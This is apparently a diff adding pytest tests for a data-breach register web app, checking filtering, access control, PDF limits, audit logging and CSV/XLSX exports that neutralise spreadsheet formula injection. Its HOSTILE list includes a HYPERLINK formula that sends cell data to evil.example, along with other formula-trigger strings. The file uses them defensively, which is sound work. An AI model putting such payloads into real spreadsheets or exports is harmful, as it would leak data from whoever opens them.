@@ -1,0 +1,218 @@
+"""The register page and its exports: the view in the URL, files that hold exactly that view,
+cells that a spreadsheet never runs as formulas, a PDF with the rows, every export audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+from typing import Any
+
+import pytest
+from flask import Flask
+from openpyxl import load_workbook
+from sqlalchemy import select, update
+
+from breachdesk.domain.register import RegisterFilter, Sort
+from breachdesk.domain.roles import Role
+from breachdesk.extensions import db
+from breachdesk.models import AuditEvent, Incident, Organisation, User
+from breachdesk.services import register
+from breachdesk.services.clock import FixedClock
+
+from ..conftest import MakeUser, login
+from ..integration.test_incidents import submit
+
+#: Texts a spreadsheet would run as a formula (or hide one behind), and one it would not.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+31 6 1234 5678 gebeld",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def people(orgs: dict[str, Organisation], make_user: MakeUser) -> tuple[User, User]:
+    kruix, luxigo = orgs["kruix"], orgs["luxigo"]
+    reporter = make_user(
+        "r@x.nl", (kruix, Role.REPORTER), (luxigo, Role.REPORTER), (orgs["leiz"], Role.REPORTER)
+    )
+    fg = make_user("fg@x.nl", (kruix, Role.FG), (luxigo, Role.FG))
+    return reporter, fg
+
+
+@pytest.fixture
+def filled(
+    app: Flask, orgs: dict[str, Organisation], people: tuple[User, User], clock: FixedClock
+) -> list[Incident]:
+    """Eight incidents of the FG's organisations (six with hostile titles), one of another."""
+    reporter, _ = people
+    made = []
+    for index, title in enumerate([*HOSTILE, "Laptop gestolen", "Brief verkeerd bezorgd"]):
+        org = orgs["kruix"] if index % 2 == 0 else orgs["luxigo"]
+        made.append(submit(reporter, org, clock, title=f"Datalek {index}"))
+        # Stored as given (an imported register keeps its cells): the export must cope.
+        db.session.execute(update(Incident).where(Incident.id == made[-1].id).values(title=title))
+        clock.advance(minutes=1)
+    db.session.commit()
+    submit(reporter, orgs["leiz"], clock, title="Niet van deze FG")
+    return made
+
+
+def references(text: str) -> list[str]:
+    return re.findall(r"data-reference=\"([A-Z]+-\d{4}-\d{4})\"", text)
+
+
+def shown(fg: User, clock: FixedClock, wanted: RegisterFilter) -> list[str]:
+    return [r.reference for r in register.rows(db.session, fg, wanted, clock.now())]
+
+
+def test_the_register_page_shows_the_view_in_the_url_and_only_the_users_organisations(
+    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
+) -> None:
+    login(client, "fg@x.nl")
+    page = client.get("/register/")
+    assert page.status_code == 200
+    text = page.get_data(as_text=True)
+    assert references(text) == [i.reference for i in reversed(filled)]
+    assert "Niet van deze FG" not in text and "Laptop gestolen" in text
+    assert 'id="nav-register"' in text
+
+    found = client.get("/register/?q=laptop&sort=reference_asc")
+    assert references(found.get_data(as_text=True)) == [filled[6].reference]
+    # The form shows the view it answers, so it can be changed and bookmarked.
+    assert 'value="laptop"' in found.get_data(as_text=True)
+
+
+def test_a_filter_it_cannot_read_is_named_next_to_its_field_not_ignored_silently(
+    client: Any, filled: list[Incident]
+) -> None:
+    login(client, "fg@x.nl")
+    page = client.get("/register/?year=twintig&from=gisteren&outcome=x&org=999")
+    assert page.status_code == 200
+    text = page.get_data(as_text=True)
+    for key in ("year", "from", "outcome", "org"):
+        assert f'id="filter-{key}-error"' in text, key
+    assert 'value="twintig"' in text  # what was typed is kept
+
+
+def test_pages_follow_one_another_through_the_links(
+    app: Flask,
+    client: Any,
+    filled: list[Incident],
+    people: tuple[User, User],
+    clock: FixedClock,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(register, "PAGE_SIZE", 3)
+    login(client, "fg@x.nl")
+    seen: list[str] = []
+    url: str | None = "/register/?sort=reference_asc"
+    while url:
+        text = client.get(url).get_data(as_text=True)
+        seen += references(text)
+        link = re.search(r'rel="next" href="([^"#]+)"', text)
+        url = link.group(1).replace("&amp;", "&") if link else None
+    assert seen == shown(people[1], clock, RegisterFilter(sort=Sort.REFERENCE_ASC))
+    assert len(seen) == 8
+
+
+def test_only_an_fg_or_administrator_sees_the_register(client: Any, filled: list[Incident]) -> None:
+    assert client.get("/register/").status_code == 302  # to the login page
+    login(client, "r@x.nl")
+    for path in ("/register/", "/register/export.csv", "/register/export.xlsx"):
+        assert client.get(path).status_code == 403, path
+
+
+def test_the_csv_holds_exactly_the_view_for_dutch_excel_and_runs_no_formula(
+    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
+) -> None:
+    login(client, "fg@x.nl")
+    response = client.get("/register/export.csv?sort=reference_asc")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert "attachment" in response.headers["Content-Disposition"]
+    assert response.headers["Cache-Control"] == "no-store, private"
+    raw = response.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
+    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    header, rows = table[0], table[1:]
+    assert header[0] == "Kenmerk" and "Meldnummer AP" in header
+    assert [r[0] for r in rows] == shown(people[1], clock, RegisterFilter(sort=Sort.REFERENCE_ASC))
+    titles = {r[0]: r[header.index("Titel")] for r in rows}
+    for incident, hostile in zip(filled, HOSTILE, strict=False):
+        assert titles[incident.reference] == "'" + hostile
+    assert titles[filled[6].reference] == "Laptop gestolen"
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+    narrowed = client.get(f"/register/export.csv?org={filled[0].organisation_id}&q=laptop")
+    lines = narrowed.get_data().decode("utf-8-sig").strip().splitlines()
+    assert len(lines) == 2 and lines[1].startswith(filled[6].reference)
+
+
+def test_the_xlsx_holds_exactly_the_view_with_text_cells_not_formulas(
+    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
+) -> None:
+    login(client, "fg@x.nl")
+    response = client.get("/register/export.xlsx?sort=reference_desc")
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(response.get_data()))
+    sheet = workbook.active
+    rows = list(sheet.iter_rows(values_only=False))
+    header = [c.value for c in rows[0]]
+    assert header[0] == "Kenmerk"
+    assert [r[0].value for r in rows[1:]] == shown(
+        people[1], clock, RegisterFilter(sort=Sort.REFERENCE_DESC)
+    )
+    for row in rows[1:]:
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+            if isinstance(cell.value, str):
+                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+    discovered = rows[1][header.index("Ontdekt (Nederlandse tijd)")].value
+    assert discovered is not None and discovered.tzinfo is None  # a real date for Excel
+
+
+def test_the_pdf_holds_the_rows_and_refuses_a_view_beyond_its_limit(
+    client: Any, filled: list[Incident], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert shutil.which("pdftotext"), "pdftotext is missing: apt-get install poppler-utils"
+    login(client, "fg@x.nl")
+    response = client.get("/register/export.pdf?q=laptop")
+    assert response.status_code == 200 and response.data.startswith(b"%PDF")
+    text = subprocess.run(
+        ["pdftotext", "-layout", "-", "-"], input=response.data, capture_output=True, check=True
+    ).stdout.decode()
+    assert filled[6].reference in text and "Laptop gestolen" in text
+    assert filled[7].reference not in text
+
+    from breachdesk.web import register as register_web
+
+    monkeypatch.setattr(register_web, "PDF_LIMIT", 5)
+    refused = client.get("/register/export.pdf?sort=reference_asc", follow_redirects=True)
+    assert refused.status_code == 200
+    assert "hoogstens 5 incidenten; deze weergave heeft er 8" in refused.get_data(as_text=True)
+    assert refused.request.path == "/register/"
+
+
+def test_every_export_is_audited_without_the_search_words(
+    client: Any, filled: list[Incident]
+) -> None:
+    login(client, "fg@x.nl")
+    client.get("/register/export.csv?q=jansen&late=1")
+    client.get("/register/export.xlsx")
+    events = (
+        db.session.execute(select(AuditEvent).where(AuditEvent.action == "register.exported"))
+        .scalars()
+        .all()
+    )
+    assert [e.after["format"] for e in events] == ["csv", "xlsx"]
+    assert events[0].after == {"format": "csv", "filter": {"late": "1"}, "searched": True}
+    assert "jansen" not in str(events[0].after)
